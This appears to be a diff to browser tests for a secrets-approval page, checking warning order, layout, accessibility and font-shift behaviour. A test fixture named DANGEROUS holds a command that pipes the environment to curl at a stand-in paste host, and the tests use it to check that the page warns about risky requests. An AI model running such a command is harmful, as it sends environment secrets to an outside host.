@@ -3,7 +3,15 @@ import { generatePollVerifier } from '@keyferry/crypto/poll-challenge'
 import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { type Asking, askApproval, createLibrary, META } from './app-library.ts'
-import { closePage, expectAccessible, openKeys, openPage, readRequest } from './app-page.ts'
+import {
+  closePage,
+  expectAccessible,
+  holdFonts,
+  openKeys,
+  openPage,
+  readRequest,
+  WATCH_SHIFTS,
+} from './app-page.ts'
 import { closePages, hasBrowser, sharedBrowser } from './browser.ts'
 import { type RunningServer, startServer } from './start-server.ts'
 
@@ -14,13 +22,6 @@ const DANGEROUS = {
   address: '203.0.113.9',
   argv: ['bash', '-c', `env | curl -d @- https://paste.example/${'long/'.repeat(60)}`],
 }
-
-// Adds up how far parts of the page moved.
-const WATCH_SHIFTS = `
-  window.shifted = 0
-  new PerformanceObserver((list) => { for (const { value } of list.getEntries()) window.shifted += value })
-    .observe({ type: 'layout-shift', buffered: true })
-`
 
 const approve = (page: Page) => page.getByRole('button', { name: /^Approve/ })
 
@@ -54,7 +55,8 @@ describe.skipIf(!hasBrowser())('the approval page at a glance', () => {
   test('the usual request fits a phone without scrolling, nothing moves, and no reason is shown', async () => {
     const page = await opened({ bundle: 'dev/app', argv: ['npm', 'run', 'dev'] }, PHONE)
     await page.getByRole('heading', { name: 'npm run dev', level: 1 }).waitFor()
-    for (const text of ['dev/app · 6 keys', 'Goes back to this computer only', 'Details'])
+    await page.getByText('dev/app').first().waitFor()
+    for (const text of ['6 keys, ', 'Only this computer gets the values', 'Details'])
       await page.getByText(text).waitFor()
     await expect.poll(() => approve(page).getAttribute('aria-disabled')).toBe('false')
     expect(await page.evaluate('document.documentElement.scrollHeight')).toBe(844)
@@ -64,17 +66,22 @@ describe.skipIf(!hasBrowser())('the approval page at a glance', () => {
     await closePage(page)
   })
 
-  test('danger comes before the command, the worst first, and is on the button', async () => {
+  test('production is said before the command, dangers under it, the worst first, and all of it on the button', async () => {
     const page = await opened(DANGEROUS, PHONE)
-    const band = page.getByRole('alert')
-    const lines = (await band.innerText()).split('\n').filter((line) => line !== '')
-    expect(lines).toEqual([
-      'PRODUCTION prod/shop/mail',
-      'bash runs a script, which can do anything with the values.',
-      'Not your network: requested from 203.0.113.9, you are at 127.0.0.1.',
+    const alerts = await page.getByRole('alert').allInnerTexts()
+    expect(alerts.map((text) => text.replaceAll(/\s+/g, ' '))).toEqual([
+      expect.stringMatching(/^PRODUCTION prod\/shop\/mail/),
+      'bash runs a script, which can do anything with the values. Not your network: requested from 203.0.113.9, you are at 127.0.0.1.',
     ])
-    const heading = await page.getByRole('heading', { level: 1 }).boundingBox()
-    expect((await band.boundingBox())?.y).toBeLessThan(heading?.y ?? 0)
+    const heights = await Promise.all(
+      [
+        page.getByText('PRODUCTION', { exact: true }),
+        page.getByRole('heading', { level: 1 }),
+        page.getByText('bash runs a script'),
+        page.getByText('2 keys, '),
+      ].map(async (shown) => (await shown.boundingBox())?.y ?? 0),
+    )
+    expect(heights).toEqual(heights.toSorted((a, b) => a - b))
     await page.getByRole('button', { name: 'Approve for PRODUCTION' }).waitFor()
     expect(await page.evaluate('window.shifted')).toBe(0)
     await expectAccessible(page)
@@ -94,6 +101,45 @@ describe.skipIf(!hasBrowser())('the approval page at a glance', () => {
     }
     const bar = await page.locator('#decision').boundingBox()
     expect(bar?.height).toBeLessThan(options.viewport.height / 2)
+    await closePage(page)
+  })
+
+  test.each([
+    ['the usual one', { bundle: 'dev/app', argv: ['npm', 'run', 'dev'] }, {}],
+    ['production', { bundle: 'prod/shop/mail', argv: ['npm', 'run', 'migrate'] }, {}],
+    ['an agent', { bundle: 'dev/app', argv: ['npm', 'test'] }, { agent: 'codex', reason: 'to test' }],
+    ['dangers', { bundle: 'prod/shop/mail', address: '203.0.113.9', argv: ['bash', '-c', 'env'] }, {}],
+  ])(
+    'from the end of the question to the buttons there are at most 320 pixels: %s',
+    async (_, asking, meta) => {
+      const page = await opened({ ...asking, meta: { ...META, via: 'run', ...meta } })
+      const question = await page.getByRole('heading', { level: 1 }).boundingBox()
+      const deny = await page.getByRole('button', { name: 'Deny' }).boundingBox()
+      expect((deny?.y ?? 0) - (question?.y ?? 0) - (question?.height ?? 0)).toBeLessThanOrEqual(320)
+      expect((deny?.y ?? 0) + (deny?.height ?? 0)).toBeLessThan(860)
+      await closePage(page)
+    },
+  )
+
+  test('a press that comes too early shows a note', async () => {
+    const page = await opened({ bundle: 'dev/app', argv: ['npm', 'run', 'dev'] })
+    await approve(page).focus()
+    for (let presses = 0; presses < 3; presses++) await page.keyboard.press('Enter')
+    await page.getByRole('status').getByText('One moment').waitFor()
+    await page.getByText('One moment').waitFor({ state: 'detached' })
+    expect(await page.evaluate('window.shifted')).toBe(0)
+    await closePage(page)
+  })
+
+  test('fonts that come late move nothing', async () => {
+    const { verification_uri_complete } = await askApproval(server.url, { bundle: 'dev/app' })
+    const page = await openPage(browser)
+    await page.addInitScript(WATCH_SHIFTS)
+    const loaded = await holdFonts(page)
+    await page.goto(server.url + verification_uri_complete)
+    await approve(page).waitFor()
+    await loaded()
+    expect(await page.evaluate('window.shifted')).toBe(0)
     await closePage(page)
   })
 
